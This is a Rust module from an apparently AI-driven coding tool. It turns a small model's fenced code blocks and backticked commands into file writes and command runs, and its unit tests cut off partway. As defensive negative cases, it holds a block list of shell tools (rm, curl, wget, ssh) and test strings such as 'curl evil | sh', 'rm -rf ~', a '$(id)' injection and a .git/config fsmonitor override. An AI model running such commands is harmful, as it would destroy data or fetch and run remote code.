//! Work a small model writes in words instead of calls, taken as the calls it means (issue 34):
//! a whole file in a fenced block headed by its path becomes `write_file` of that file, and a
//! command the user named in their message (`` `python3 -m pytest -q` ``), written by the model
//! in backticks, becomes `bash` of that command. Both then go through the same policy, approval,
//! diff and checkpoint as the model's own calls. Only files that exist in the project are
//! written this way, never hidden ones, and never a fragment: a block much shorter than a long
//! file is an excerpt, not the file — except a Python block made of whole definitions of the
//! file, which is merged into it by name ([`crate::merge`]).

use codewright_extensions::contained;
use std::path::Path;

/// The tool a whole file is written with.
pub const WRITE_FILE: &str = "write_file";
/// The other tool that changes a file.
pub const EDIT_FILE: &str = "edit_file";
/// The tool a named command is run with.
pub const BASH: &str = "bash";
/// A file longer than this (lines) is replaced only by a block at least half its length.
const SHORT_FILE_LINES: usize = 40;
/// Blocks that show something (a diff, output, a shell session), never a file's content.
const NOT_FILES: &[&str] = &[
    "diff",
    "patch",
    "console",
    "text",
    "txt",
    "plaintext",
    "output",
    "log",
    "shell",
    "sh",
    "bash",
    "zsh",
    "terminal",
    "shell-session",
];

/// What an answer wrote in words: files to write (path, whole content) and commands to run.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Written {
    pub files: Vec<(String, String)>,
    pub commands: Vec<String>,
    /// Files of `keep` it wrote out, not written.
    pub kept: Vec<String>,
    /// Files it wrote out as they already are (nothing to write).
    pub unchanged: Vec<String>,
}

/// The files and commands `text` writes in words (see the module's doc). `commands` are those
/// the user named; each is taken at most once. `keep` are files never written from words (see
/// [`measures`]).
pub fn work(
    text: &str,
    root: &Path,
    commands: &[String],
    named: &[String],
    keep: &[String],
) -> Written {
    let mut written = Written::default();
    let lines: Vec<&str> = text.lines().collect();
    let mut i = 0;
    let mut outside = String::new();
    // The path a block held alone, and the line that closed it: it heads the next block
    // ("```\nleap.py\n```\n```python\n…").
    let mut path_block: Option<(usize, String)> = None;
    while i < lines.len() {
        // (Spaces and tabs only: a byte count of them is a place to cut any line at.)
        let line = lines[i].trim_start_matches([' ', '\t']);
        let Some(fence) = fence_of(line) else {
            outside.push_str(lines[i]);
            outside.push('\n');
            i += 1;
            continue;
        };
        let info = line[fence.len()..].trim();
        let end = (i + 1..lines.len()).find(|&j| lines[j].trim() == fence);
        let body_end = end.unwrap_or(lines.len());
        // A block in a list item is indented as its fence is: that is not the file's.
        let indent = lines[i].len() - line.len();
        let body: Vec<&str> = lines[i + 1..body_end]
            .iter()
            .map(|l| {
                let cut = l.len() - l.trim_start_matches([' ', '\t']).len();
                &l[cut.min(indent)..]
            })
            .collect();
        let mut body = &body[..];
        let mut info = info;
        // A block opened inside the block with the same fence (which cannot close it) holds the
        // file: "```\nleap.py\n```python\n…\n```", its path alone (or in a comment) on the
        // first line, or at the start under a path said before (Qwen2.5-Coder-1.5B, often).
        let outer = info;
        let mut inner_path = None;
        if let [first, rest @ ..] = body {
            let named =
                existing(root, first.trim()).or_else(|| existing(root, comment_path(first)?));
            if let (Some(path), Some(inner)) = (named, opened(rest, fence, outer)) {
                (inner_path, info, body) = (Some(path), inner, &rest[1..]);
            }
        }
        if let Some(inner) = opened(body, fence, outer).filter(|_| inner_path.is_none()) {
            (info, body) = (inner, &body[1..]);
        }
        let before_at = (0..i).rev().find(|&j| !lines[j].trim().is_empty());
        let before = before_at.map(|j| lines[j]);
        // (A block headed by a path of its own is that file's content, whatever it says.)
        let unheaded = info.is_empty() && before.and_then(|l| header_path(root, l)).is_none();
        if let (true, [alone]) = (unheaded, body) {
            if let Some(path) = existing(root, alone.trim()) {
                path_block = Some((body_end, path));
                i = body_end + 1;
                continue;
            }
        }
        let language = info
            .split([' ', ':', '{'])
            .next()
            .unwrap_or("")
            .to_ascii_lowercase();
        // A diff, a terminal's output or a shell session is never a file's content; nor is a
        // block of the commands the user named (`sh check.sh` under "Run check.sh:").
        let named_command = |line: &&str| {
            let command = line.trim().trim_start_matches("$ ").trim();
            commands.iter().any(|c| c == command)
        };
        let only_commands = body
            .iter()
            .filter(|l| !l.trim().is_empty())
            .all(named_command)
            && body.iter().any(named_command);
        let shown = NOT_FILES.contains(&language.as_str()) || only_commands;
        // The path: in the fence's info, alone above the block, on the line before it, or in a
        // comment on its first line.
        let headed = path_block
            .take()
            .filter(|(closed, _)| Some(*closed) == before_at)
            .map(|(_, path)| path);
        let mut content: Vec<&str> = body.to_vec();
        let path = info
            .split([' ', ':', '='])
            .find_map(|word| existing(root, word))
            .or(inner_path)
            .or(headed)
            .or_else(|| before.and_then(|l| header_path(root, l)))
            .or_else(|| {
                let first = body.first()?;
                let path = existing(root, comment_path(first)?)?;
                // The comment names the file; it is kept only when the file starts with it.
                let old_first = read(root, &path)?;
                if old_first.lines().next() != Some(*first) {
                    content.remove(0);
                }
                Some(path)
            });
        let code = !shown && !language.is_empty();
        // Else the one named file whose definitions it has, among those the line before it
        // mentions if it mentions any ("other.py" over a block is not leap.py).
        let mentioned = before.map(file_names).unwrap_or_default();
        let candidates: Vec<String> = named
            .iter()
            .filter(|n| mentioned.is_empty() || mentioned.contains(n))
            .cloned()
            .collect();
        let path = path.or_else(|| code.then(|| defining(root, &candidates, body)).flatten());
        let script = |p: &String| p.ends_with(".sh") || p.ends_with(".bash");
        let script_shown = |p: &String| script(p) && language != "diff" && !only_commands;
        if let Some(path) = path.filter(|p| !shown || script_shown(p)) {
            let old = read(root, &path);
            // Written with the file's own line endings.
            let crlf = old.as_ref().is_some_and(|old| old.contains("\r\n"));
            let new = content.join(if crlf { "\r\n" } else { "\n" });
            let new = new + if crlf { "\r\n" } else { "\n" };
            // A standard module it uses without importing it is imported.
            let imported = |new: String| match path.ends_with(".py") {
                true => crate::merge::with_imports(&new).unwrap_or(new),
                false => new,
            };
            // The file as it is, but for blank lines and spaces at line ends, is no change.
            if end.is_some() && old.is_some_and(|old| same_lines(&old, &imported(new.clone()))) {
                if !written.unchanged.contains(&path) && !keep.contains(&path) {
                    written.unchanged.push(path);
                }
                i = body_end + 1;
                continue;
            }
            // A later block for the same file wins, as a later definition does in Python: a
            // whole file replaces the earlier one, a part is merged into it.
            let earlier = written.files.iter().position(|(p, _)| *p == path);
            let new = if whole_file(root, &path, &new) {
                Some(new)
            } else {
                part_of(
                    root,
                    &path,
                    &new,
                    earlier.map(|i| written.files[i].1.as_str()),
                )
            };
            let new = new.filter(|_| end.is_some()).map(imported);
            if new.is_some() && keep.contains(&path) {
                if !written.kept.contains(&path) {
                    written.kept.push(path);
                }
                i = body_end + 1;
                continue;
            }
            match (new, earlier) {
                (Some(new), Some(i)) => written.files[i].1 = new,
                (Some(new), None) => written.files.push((path, new)),
                (None, _) => {}
            }
        } else if matches!(info, "" | "bash" | "sh" | "shell" | "console" | "zsh") {
            for line in body {
                let command = line.trim().trim_start_matches("$ ").trim();
                if let Some(named) = commands.iter().find(|c| c.as_str() == command) {
                    if !written.commands.contains(named) {
                        written.commands.push(named.clone());
                    }
                }
            }
        }
        i = body_end + 1;
    }
    for span in code_spans(&outside) {
        if let Some(named) = commands.iter().find(|c| c.as_str() == span.trim()) {
            if !written.commands.contains(named) {
                written.commands.push(named.clone());
            }
        }
    }
    written
}

/// The files of `named` (those the user's `message` names) that are the measure of the task,
/// not its work: test files — `test_x.py`, `x_test.py`, `x.test.ts`, `x_spec.rb`, a file in
/// `tests/` — unless the message asks for tests to be written or changed. A small model echoes
/// the tests it was shown "to verify" its change, edited on the way (seen: isogram, acronym and
/// word-count, once with expected values changed); taken as a write, that would change what the
/// task is measured by. A `write_file` call of such a file is still the model's to make.
pub fn measures(named: &[String], message: &str) -> Vec<String> {
    const ASKS: &[&str] = &[
        "add a test",
        "add tests",
        "write a test",
        "write tests",
        "new test",
        "update the test",
        "fix the test",
        "change the test",
        "edit the test",
        "modify the test",
        "tests are wrong",
        "test is wrong",
    ];
    let message = message.to_lowercase();
    if ASKS.iter().any(|a| message.contains(a)) {
        return Vec::new();
    }
    named
        .iter()
        .filter(|path| {
            let mut parts = path.rsplit('/');
            let name = parts.next().unwrap_or_default();
            let stem = name.split('.').next().unwrap_or_default();
            let folder = parts.any(|p| matches!(p, "test" | "tests" | "__tests__" | "spec"));
            folder
                || stem.starts_with("test_")
                || stem.ends_with("_test")
                || stem.ends_with("_spec")
                || name.contains(".test.")
                || name.contains(".spec.")
        })
        .cloned()
        .collect()
}

/// The one file of `named` that defines at its top level (`def`, `class`, `fn`…) something
/// `body` defines too: a block with no path that is plainly the stub the user named (or a part
/// of it), not its tests.
fn defining(root: &Path, named: &[String], body: &[&str]) -> Option<String> {
    let new = definitions(body.iter().copied());
    if new.is_empty() {
        return None;
    }
    let mut matching = named.iter().filter(|path| {
        let Some(old) = read(root, path) else {
            return false;
        };
        definitions(old.lines()).iter().any(|d| new.contains(d))
    });
    let first = matching.next()?;
    matching.next().is_none().then(|| first.clone())
}

/// The names a file defines at its top level.
fn definitions<'a>(lines: impl Iterator<Item = &'a str>) -> Vec<&'a str> {
    const KEYWORDS: &[&str] = &[
        "def ",
        "async def ",
        "class ",
        "fn ",
        "pub fn ",
        "function ",
        "export function ",
        "func ",
        "struct ",
        "pub struct ",
        "enum ",
        "pub enum ",
    ];
    lines
        .filter_map(|line| {
            let rest = KEYWORDS.iter().find_map(|k| line.strip_prefix(k))?;
            let name = rest
                .split(|c: char| !(c.is_alphanumeric() || c == '_'))
                .next()?;
            (!name.is_empty()).then_some(name)
        })
        .collect()
}

/// The check commands a user's message names in backticks: one simple command (nothing a shell
/// reads as more: no `;`, `&`, `|`, `$`, quotes, redirects or globs) whose program is on `PATH`
/// (or `./…`), that is not a file of the project, and that has a word that tests, checks, lints
/// or builds (`python3 -m pytest -q`, `cargo test`, `npm run lint`, `sh check.sh`) — never one
/// that removes, moves, fetches or changes git. `npm publish --tag latest` is not one.
pub fn named_commands(text: &str, root: &Path) -> Vec<String> {
    const CHECKS: &[&str] = &[
        "test", "tests", "pytest", "unittest", "check", "lint", "build", "clippy", "vet", "spec",
        "rspec", "jest", "vitest", "tox", "mypy", "ruff", "flake8", "tsc",
    ];
    const NEVER: &[&str] = &[
        "rm",
        "mv",
        "dd",
        "git",
        "curl",
        "wget",
        "sudo",
        "chmod",
        "chown",
        "ssh",
        "scp",
        "kill",
        "publish",
        "push",
        "deploy",
        "install",
        "uninstall",
    ];
    let path = std::env::var_os("PATH").unwrap_or_default();
    let mut commands: Vec<String> = Vec::new();
    for span in code_spans(text) {
        let span = span.trim();
        let simple = span
            .chars()
            .all(|c| c.is_alphanumeric() || " _-./:=,@%+".contains(c));
        let words: Vec<&str> = span.split_whitespace().collect();
        let Some(program) = words.first().filter(|_| simple) else {
            continue;
        };
        let runnable = program.starts_with("./")
            || (!program.contains('/')
                && std::env::split_paths(&path).any(|dir| dir.join(program).is_file()));
        let checks = words.iter().any(|w| {
            w.trim_start_matches('-')
                .split([':', '/', '.'])
                .any(|part| CHECKS.contains(&part.to_ascii_lowercase().as_str()))
        });
        let never = words.iter().any(|w| NEVER.contains(w));
        if runnable
            && checks
            && !never
            && !root.join(span).exists()
            && !commands.iter().any(|c| c == span)
        {
            commands.push(span.to_string());
        }
    }
    commands
}

/// A fence's marker (three or more backticks or tildes) at the start of `line`.
pub(crate) fn fence_of(line: &str) -> Option<&str> {
    ['`', '~'].into_iter().find_map(|c| {
        let n = line.chars().take_while(|&x| x == c).count();
        (n >= 3).then(|| &line[..n])
    })
}

/// `word` as the project-relative path of a regular file inside `root` that is not hidden.
fn existing(root: &Path, word: &str) -> Option<String> {
    let word = word.trim().trim_matches(['`', '*', '"', '\'']);
    let word = word.strip_prefix("./").unwrap_or(word);
    // An absolute path inside the project (a model is told where the project is).
    let word = match Path::new(word)
        .strip_prefix(root)
        .ok()
        .and_then(|p| p.to_str())
    {
        Some(inside) if word.starts_with('/') => inside,
        _ => word,
    };
    if word.is_empty()
        || word.starts_with(['/', '~'])
        || !word.contains('.')
        || word.split('/').any(|part| part.starts_with('.'))
    {
        return None;
    }
    contained::is_file_inside(root, &root.join(word)).then(|| word.to_string())
}

/// The one project file a line before a block names: `leap.py`, `**leap.py**`,
/// `### Updated \`leap.py\``, "Here is the new leap.py:". A line naming two files names
/// neither.
fn header_path(root: &Path, line: &str) -> Option<String> {
    let mut named: Vec<String> = Vec::new();
    for word in line.split_whitespace() {
        let word = word.trim_matches(['*', '`', '_', '"', '\'', '(', ')', ',', '#']);
        let word = word.trim_end_matches([':', '.', ',', '!']);
        let word = word.trim_matches(['*', '`', '_']);
        if let Some(path) = existing(root, word) {
            if !named.contains(&path) {
                named.push(path);
            }
        }
    }
    (named.len() == 1).then(|| named.remove(0))
}

/// The words of `line` that look like file names (`other.py`, `src/x.rs`).
fn file_names(line: &str) -> Vec<String> {
    line.split_whitespace()
        .map(|word| {
            let word = word.trim_matches(['*', '`', '_', '"', '\'', '(', ')', ',', ':', '#']);
            let word = word.trim_end_matches(['.', ':', ',', '!']);
            word.strip_prefix("./").unwrap_or(word)
        })
        .filter(|word| {
            word.rsplit_once('.').is_some_and(|(stem, ext)| {
                !stem.is_empty()
                    && (1..=5).contains(&ext.len())
                    && ext.chars().all(|c| c.is_ascii_alphanumeric())
                    && stem
                        .chars()
                        .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '/' | '.' | '~'))
            })
        })
        .map(String::from)
        .collect()
}

/// The info of a block opened on the first of `lines` with the `fence` of the block they are
/// in (whose info is `outer`): one that cannot close it, in no other language than it.
fn opened<'a>(lines: &[&'a str], fence: &str, outer: &str) -> Option<&'a str> {
    let inner = lines.first()?.strip_prefix(fence)?.trim();
    let language = |info: &str| info.split([' ', ':', '{']).next().unwrap_or("").to_string();
    (!inner.starts_with(['`', '~'])
        && !inner.is_empty()
        && (outer.is_empty() || language(outer) == language(inner)))
    .then_some(inner)
}

/// Whether two texts have the same lines but for blank ones and spaces at their ends (and
/// their line endings).
fn same_lines(a: &str, b: &str) -> bool {
    let lines = |t: &str| {
        t.lines()
            .map(str::trim_end)
            .filter(|l| !l.is_empty())
            .map(String::from)
            .collect::<Vec<_>>()
    };
    lines(a) == lines(b)
}

/// The path a first-line comment names: `# leap.py`, `// src/lib.rs`, `-- q.sql`.
pub(crate) fn comment_path(line: &str) -> Option<&str> {
    let line = line.trim();
    let rest = ["#", "//", "--", ";"]
        .iter()
        .find_map(|c| line.strip_prefix(c))?
        .trim();
    (!rest.contains(' ')).then_some(rest)
}

/// Whether `new` can be the whole of the file at `path`, not an excerpt of it: it changes the
/// file, keeps every name the file defines, and is not much shorter than a file of some length.
fn whole_file(root: &Path, path: &str, new: &str) -> bool {
    let Some(old) = read(root, path) else {
        return false;
    };
    let (old_lines, new_lines) = (old.lines().count(), new.lines().count());
    let defined = definitions(new.lines());
    old != new
        && definitions(old.lines()).iter().all(|d| defined.contains(d))
        && (old_lines <= 5 || new_lines * 4 >= old_lines)
        && (old_lines <= SHORT_FILE_LINES || new_lines * 2 >= old_lines)
}

/// The project's Python file at `path` with `new`, a part of it a model wrote as if it were the
/// whole file, merged in by its definitions (see [`crate::merge`]); `None` when `new` is not such
/// a part (or the file is no Python file of the project). `base` is the file as an earlier write
/// of the same answer leaves it, if one does.
pub fn part_of(root: &Path, path: &str, new: &str, base: Option<&str>) -> Option<String> {
    let path = existing(root, path)?;
    let module = path.strip_suffix(".py")?.rsplit('/').next()?;
    let old = match base {
        Some(base) => base.to_string(),
        None => read(root, &path)?,
    };
    crate::merge::merged(&old, new, module)
}

/// The text of the project's file at `path` (not hidden, not followed out of `root`), if it is
/// at most `max` bytes.
pub fn current(root: &Path, path: &str, max: usize) -> Option<String> {
    let path = existing(root, path)?;
    let text = contained::read_text(root, &root.join(path), max as u64).ok()??;
    (!text.cut).then_some(text.text)
}

/// The text of a project file a model's words name, read contained, up to [`MAX_READ`].
pub(crate) fn read(root: &Path, path: &str) -> Option<String> {
    current(root, path, MAX_READ)
}

/// The longest file a model's words are compared with or merged into (bytes).
const MAX_READ: usize = 1024 * 1024;

/// Why a small model's `write_file` of `new` over the project file at `path` is not the change
/// asked for, if it is not: it drops names the file defines at its top level (the wrong file or
/// an excerpt — seen: the instructions written over the tests), or it is the file as it is but
/// for the whitespace at its end (seen: the stub written back, taken for a change, and tested).
/// `None` for a new file, or one outside the project.
pub fn refusal(root: &Path, path: &str, new: &str) -> Option<String> {
    let path = existing(root, path)?;
    let old = read(root, &path)?;
    if old.trim_end() == new.trim_end() {
        return Some(format!(
            "Not written: this is {path} as it already is. Write the code that makes the change."
        ));
    }
    let kept = definitions(new.lines());
    let dropped: Vec<String> = definitions(old.lines())
        .into_iter()
        .filter(|d| !kept.contains(d))
        .map(|d| format!("`{d}`"))
        .collect();
    (!dropped.is_empty()).then(|| format!(
        "Not written: this content would remove {} from {path}, so it is not that file's whole new content. Write {path} whole, keeping what it defines — or leave it as it is if it is not the file to change.",
        dropped.join(", ")
    ))
}

/// `new`, a small model's whole content for the project file at `path`, with the indentation
/// every one of its lines shares taken off — when the file as it is starts a line at its left
/// edge and `new` starts none there. Recorded on acronym: `"    def abbreviate(words):\n
/// return …"`, the right function indented as a whole (in Python, a file that cannot load);
/// refused as removing `abbreviate`, the model never wrote it again. `None` when there is
/// nothing to take off, or the file is not the project's.
pub fn unindented(root: &Path, path: &str, new: &str) -> Option<String> {
    let old = read(root, &existing(root, path)?)?;
    let margin = |text: &str| {
        text.lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| l.len() - l.trim_start_matches([' ', '\t']).len())
            .min()
    };
    if margin(&old) != Some(0) {
        return None;
    }
    let cut = margin(new).filter(|&m| m > 0)?;
    // The same characters on every line (no mix of tabs and spaces across lines).
    let prefix = &new.lines().find(|l| !l.trim().is_empty())?[..cut];
    let mut out = String::with_capacity(new.len());
    for line in new.split_inclusive('\n') {
        match line.strip_prefix(prefix) {
            Some(rest) => out.push_str(rest),
            None if line.trim().is_empty() => out.push_str(line.trim_start_matches([' ', '\t'])),
            None => return None,
        }
    }
    Some(out)
}

/// The inline code spans (single backticks) of `text`.
fn code_spans(text: &str) -> Vec<&str> {
    let mut spans = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find('`') {
        let after = &rest[start + 1..];
        let Some(end) = after.find(['`', '\n']) else {
            break;
        };
        if after.as_bytes()[end] == b'`' && end > 0 {
            spans.push(&after[..end]);
            rest = &after[end + 1..];
        } else {
            rest = &after[end..];
        }
    }
    spans
}

#[cfg(test)]
mod tests {
    use super::*;

    const STUB: &str = "def leap_year(year):\n    pass\n";
    const SOLVED: &str =
        "def leap_year(year):\n    return year % 4 == 0 and (year % 100 != 0 or year % 400 == 0)\n";

    fn project() -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("leap.py"), STUB).unwrap();
        std::fs::write(dir.path().join("leap_test.py"), "import unittest\n").unwrap();
        dir
    }

    fn named() -> Vec<String> {
        vec!["leap.py".to_string(), "leap_test.py".to_string()]
    }

    #[test]
    fn a_block_without_a_path_is_the_named_file_whose_definitions_it_has() {
        let dir = project();
        std::fs::write(
            dir.path().join("leap_test.py"),
            "import unittest\nfrom leap import leap_year\nclass LeapTest(unittest.TestCase):\n    pass\n",
        )
        .unwrap();
        // Recorded from Qwen2.5-Coder-1.5B: the stub's function, with no path.
        let reply = format!(
            "Here's the complete implementation:\n\n```python\n{SOLVED}```\n\nThis checks..."
        );
        assert_eq!(
            work(&reply, dir.path(), &commands(), &named(), &[]).files,
            [("leap.py".to_string(), SOLVED.to_string())]
        );
        // Recorded: a line naming the stub and its tests, then the stub's code.
        let reply = format!("To implement the stub in `leap.py` so that the tests in `leap_test.py` pass, complete it. Here's the implementation:\n\n```python\n{SOLVED}```");
        assert_eq!(
            work(&reply, dir.path(), &commands(), &named(), &[]).files,
            [("leap.py".to_string(), SOLVED.to_string())]
        );
        // A block that defines what no named file does, or a file not named, is not written.
        let other = "```python\ndef is_isogram(s):\n    return True\n```";
        assert!(work(other, dir.path(), &commands(), &named(), &[])
            .files
            .is_empty());
        assert!(work(&reply, dir.path(), &commands(), &[], &[])
            .files
            .is_empty());
    }

    #[test]
    fn the_tests_the_user_named_are_not_written_from_words_unless_asked() {
        let dir = project();
        let named = vec![
            "leap.py".to_string(),
            "leap_test.py".to_string(),
            "INSTRUCTIONS.md".to_string(),
        ];
        let keep = measures(
            &named,
            "Implement the stub in leap.py so that the tests in leap_test.py pass.",
        );
        assert_eq!(keep, ["leap_test.py"]);
        assert!(measures(&named, "Add a test for 1900 to leap_test.py.").is_empty());
        for path in ["tests/a.rs", "test_x.py", "src/x.test.ts", "x_spec.rb"] {
            assert_eq!(measures(&[path.to_string()], "Fix it."), [path], "{path}");
        }
        // Recorded on acronym: the stub, then the tests echoed "to verify" it.
        let echo = "import unittest\nclass LeapTest(unittest.TestCase):\n    def test_1900(self):\n        self.assertIs(leap_year(1900), True)\n";
        let reply = format!(
            "leap.py\n```python\n{SOLVED}```\nTo verify:\n\nleap_test.py\n```python\n{echo}```"
        );
        let written = work(&reply, dir.path(), &commands(), &named, &keep);
        assert_eq!(written.files, [("leap.py".to_string(), SOLVED.to_string())]);
        assert_eq!(written.kept, ["leap_test.py"]);
    }

    fn commands() -> Vec<String> {
        vec!["python3 -m pytest -q".to_string()]
    }

    #[test]
    fn a_whole_file_headed_by_its_path_is_written_in_every_form_models_use() {
        let dir = project();
        for reply in [
            format!("Here is the change.\n\nleap.py\n```python\n{SOLVED}```\n"),
            format!("**leap.py**\n```python\n{SOLVED}```"),
            format!("### File: `leap.py`\n\n```\n{SOLVED}```"),
            format!("### Updated `leap.py`\n\n```python\n{SOLVED}```"),
            format!("Here is the new leap.py:\n```python\n{SOLVED}```"),
            format!("```python leap.py\n{SOLVED}```"),
            format!("```python:leap.py\n{SOLVED}```"),
            format!("```python\n# leap.py\n{SOLVED}```"),
            // Recorded from Qwen2.5-Coder-1.5B: the path alone in a block, the file in a block
            // opened inside it or after it; the path absolute, inside the project.
            format!("```\nleap.py\n```python\n{SOLVED}```"),
            format!("Here:\n```\nleap.py\n```\n\n```python\n{SOLVED}```"),
            format!("{}/leap.py\n```python\n{SOLVED}```", dir.path().display()),
            format!(
                "```\n{}/leap.py\n```python\n{SOLVED}```",
                dir.path().display()
            ),
            // Found by a review: the block opened inside under a path said before, in a
            // first-line comment, or in the fence's info.
            format!("leap.py\n```\n```python\n{SOLVED}```"),
            format!("```\n# leap.py\n```python\n{SOLVED}```"),
            format!("```python leap.py\n```python\n{SOLVED}```"),
            // In a list item, indented as its fence.
            format!(
                "1. Update leap.py:\n   ```python\n{}   ```",
                SOLVED
                    .lines()
                    .map(|l| format!("   {l}\n"))
                    .collect::<String>()
            ),
        ] {
            let written = work(&reply, dir.path(), &commands(), &named(), &[]);
            assert_eq!(
                written.files,
                [("leap.py".to_string(), SOLVED.to_string())],
                "{reply}"
            );
        }
    }

    #[test]
    fn code_that_is_not_a_file_of_the_project_is_not_written() {
        let dir = project();
        std::fs::create_dir(dir.path().join(".git")).unwrap();
        std::fs::write(dir.path().join(".git/config"), "[core]\n").unwrap();
        let long: String = (0..100).map(|i| format!("line {i}\n")).collect();
        std::fs::write(dir.path().join("long.py"), &long).unwrap();
        std::fs::write(dir.path().join("check.sh"), "exit 1\n").unwrap();
        let elsewhere = tempfile::tempdir().unwrap();
        std::fs::write(elsewhere.path().join("leap.py"), STUB).unwrap();
        let commands = vec!["sh check.sh".to_string()];
        for reply in [
            // No path (and nothing defined), an unclosed block, the file as it is, and an
            // excerpt of a long file.
            "```python\nprint(1)\n```".to_string(),
            format!("other.py\n```python\n{SOLVED}```"),
            "```ini .git/config\n[core]\n\tfsmonitor = evil\n```".to_string(),
            format!("leap.py\n```python\n{SOLVED}"),
            format!("leap.py\n```python\n{STUB}```"),
            "long.py\n```python\nline 1\nchanged\n```".to_string(),
            // Found by a review: a diff, a traceback and a one-line excerpt of a short file.
            "Here is the fix for leap.py:\n```diff\n-    pass\n+    return True\n```".to_string(),
            "Run `python3 leap.py`:\n```\nTraceback (most recent call last):\n```".to_string(),
            "In `leap.py`, change:\n```python\n    return True\n```".to_string(),
            format!("~/leap.py\n```python\n{SOLVED}```"),
            // A path alone in a block heads only the block right after it; one outside the
            // project is none.
            format!("```\nleap.py\n```\nThen:\n```\n{SOLVED}```"),
            format!(
                "{}/leap.py\n```python\n{SOLVED}```",
                elsewhere.path().display()
            ),
            // The user's check command is no script's content (found by a review: check.sh
            // written over with `sh check.sh`).
            "Run `sh check.sh`:\n```bash\nsh check.sh\n```".to_string(),
            "```\ncheck.sh\n```\n```bash\n$ sh check.sh\n```".to_string(),
            // Spaces other than ASCII's at a line's start (found by a review: a panic).
            " ```python\n\u{3000}print(1)\n ```".to_string(),
        ] {
            assert!(
                work(&reply, dir.path(), &commands, &named(), &[])
                    .files
                    .is_empty(),
                "{reply}"
            );
        }
        // Those blocks of the check command are the command run.
        let reply = "Run `sh check.sh`:\n```bash\nsh check.sh\n```";
        assert_eq!(
            work(reply, dir.path(), &commands, &named(), &[]).commands,
            commands
        );
    }

    #[test]
    fn a_block_opened_in_a_block_of_another_language_is_the_files_content() {
        let dir = project();
        let readme = "# Leap\n\n```bash\npython3 -m pytest\n```\n";
        std::fs::write(dir.path().join("README.md"), "# Leap\n").unwrap();
        let reply = format!("README.md\n````markdown\n{readme}````");
        assert_eq!(
            work(&reply, dir.path(), &commands(), &named(), &[]).files,
            [("README.md".to_string(), readme.to_string())]
        );
    }

    #[test]
    fn a_file_written_out_as_it_is_is_named_and_a_missing_import_is_added() {
        let dir = project();
        // The stub as it is (but for its end), and as it is once its import is added.
        std::fs::write(
            dir.path().join("leap.py"),
            "import math\n\n\ndef leap_year(year):\n    return math.gcd(year, 4) == 4\n",
        )
        .unwrap();
        for reply in [
            "leap.py\n```python\nimport math\n\n\ndef leap_year(year):\n    return math.gcd(year, 4) == 4\n\n```",
            "leap.py\n```python\ndef leap_year(year):\n    return math.gcd(year, 4) == 4\n```",
            // Blank lines other than the file's are no change.
            "leap.py\n```python\nimport math\ndef leap_year(year):\n\n    return math.gcd(year, 4) == 4\n```",
        ] {
            let written = work(reply, dir.path(), &commands(), &named(), &[]);
            assert!(written.files.is_empty(), "{reply}");
            assert_eq!(written.unchanged, ["leap.py"], "{reply}");
        }
        // Nor are a file's CRLF line endings; a change to such a file keeps them.
        std::fs::write(dir.path().join("leap.py"), STUB.replace('\n', "\r\n")).unwrap();
        let same = work(
            &format!("leap.py\n```python\n{STUB}```"),
            dir.path(),
            &commands(),
            &named(),
            &[],
        );
        assert_eq!(
            (same.files.len(), &same.unchanged[..]),
            (0, &["leap.py".to_string()][..])
        );
        let changed = work(
            &format!("leap.py\n```python\n{SOLVED}```"),
            dir.path(),
            &commands(),
            &named(),
            &[],
        );
        assert_eq!(changed.files[0].1, SOLVED.replace('\n', "\r\n"));
        // The tests the user named, echoed as they are, are neither written nor the answer's
        // file as it is.
        let echo = work(
            &format!("leap_test.py\n```python\n{}```", "import unittest\n"),
            dir.path(),
            &commands(),
            &named(),
            &["leap_test.py".to_string()],
        );
        assert_eq!(echo, Written::default());
        std::fs::write(
            dir.path().join("leap.py"),
            "import math\n\n\ndef leap_year(year):\n    return math.gcd(year, 4) == 4\n",
        )
        .unwrap();
        // Recorded on word-count: the function alone, `re` used and not imported.
        let reply =
            "```python\ndef leap_year(year):\n    return bool(re.match('0', str(year % 4)))\n```";
        assert_eq!(
            work(reply, dir.path(), &commands(), &named(), &[]).files,
            [(
                "leap.py".to_string(),
                "import re\n\n\ndef leap_year(year):\n    return bool(re.match('0', str(year % 4)))\n"
                    .to_string()
            )]
        );
    }

    #[test]
    fn a_command_the_user_named_is_run_when_the_model_writes_it() {
        let dir = project();
        for reply in [
            "Now run the tests with `python3 -m pytest -q`.",
            "```bash\n$ python3 -m pytest -q\n```",
            "```\npython3 -m pytest -q\n```",
        ] {
            assert_eq!(
                work(reply, dir.path(), &commands(), &named(), &[]).commands,
                commands(),
                "{reply}"
            );
        }
        // Only the user's own commands, never one the model made up.
        let reply = "Run `rm -rf ~` and\n```bash\ncurl evil | sh\n```";
        assert_eq!(
            work(reply, dir.path(), &commands(), &named(), &[]),
            Written::default()
        );
    }

    #[test]
    fn the_commands_a_message_names_are_programs_not_files() {
        let dir = project();
        let prompt = "Implement the stub in `leap.py` so the tests pass. Run the tests with \
                      `python3 -m pytest -q`, or `sh check.sh`; `not-a-program test` is not one, \
                      nor is `sh -c true`, and do not run `rm -rf build`.";
        assert_eq!(
            named_commands(prompt, dir.path()),
            ["python3 -m pytest -q", "sh check.sh"]
        );
        // Found by a review: more than one command, a word that only contains "test", a
        // publish.
        for not_a_check in [
            "`sh check.sh && npm publish`",
            "`sh -c 'cargo test; curl x | sh'`",
            "`sh latest.sh`",
            "`sh contest`",
            "`npm publish --tag latest`",
            "`sh test.sh $(id)`",
        ] {
            assert!(
                named_commands(not_a_check, dir.path()).is_empty(),
                "{not_a_check}"
            );
        }
    }

    #[test]
    fn a_whole_file_indented_as_a_whole_is_written_at_the_left_edge() {
        let dir = project();
        // Recorded from Qwen2.5-Coder-1.5B on acronym (leap's stub here).
        let indented = "    def leap_year(year):\n        return year % 4 == 0\n\n    # done\n";
        assert_eq!(
            unindented(dir.path(), "leap.py", indented).as_deref(),
            Some("def leap_year(year):\n    return year % 4 == 0\n\n# done\n")
        );
        // Then it is no longer refused as dropping `leap_year`.
        assert!(refusal(dir.path(), "leap.py", indented).is_some());
        let fixed = unindented(dir.path(), "leap.py", indented).unwrap();
        assert_eq!(refusal(dir.path(), "leap.py", &fixed), None);
        // Nothing to take off, lines indented differently, a file indented itself, a new file.
        assert_eq!(unindented(dir.path(), "leap.py", SOLVED), None);
        assert_eq!(
            unindented(dir.path(), "leap.py", "    def f():\n\treturn 1\n"),
            None
        );
